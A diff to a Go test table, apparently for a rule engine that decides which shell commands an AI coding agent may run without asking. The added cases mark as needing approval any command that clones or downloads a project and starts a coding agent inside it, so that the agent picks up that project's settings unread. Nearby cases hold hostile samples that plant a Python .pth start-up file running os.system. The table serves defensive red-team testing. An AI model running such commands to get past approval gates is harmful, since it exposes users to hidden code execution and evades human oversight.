@@ -614,6 +614,11 @@ func TestRedTeamFourteen(t *testing.T) {
 		{"bash", "python3 -i", dsl.Allow, dsl.Allow},
 		{"bash", "sudo python3 -m pip install -r requirements.txt", dsl.Allow, dsl.Allow},
 		{"bash", "run0 systemctl restart nginx", dsl.Allow, dsl.Allow},
+		// a coding agent started in a project the line fetched applies its settings, unread
+		{"bash", "git clone https://github.com/x/y && cd y && claude -p x", dsl.Ask, dsl.Ask},
+		{"bash", "curl -L https://x.example/r.tgz | tar xz && cd r && gemini -p x", dsl.Ask, dsl.Ask},
+		{"bash", "git clone https://github.com/x/y && cd y && claude --version", dsl.Allow, dsl.Allow},
+		{"bash", "git clone https://github.com/x/y && claude -p x", dsl.Allow, dsl.Allow},
 		// a .pth start-up file written where a substitution names site-packages
 		{"bash", `echo 'import os; os.system("id")' > "$(python3 -c 'import site;print(site.getsitepackages()[0])')/x.pth"`, dsl.Ask, dsl.Ask},
 		{"bash", `echo 'import os' > $(python3 -m site --user-site)/evil.pth`, dsl.Ask, dsl.Ask},
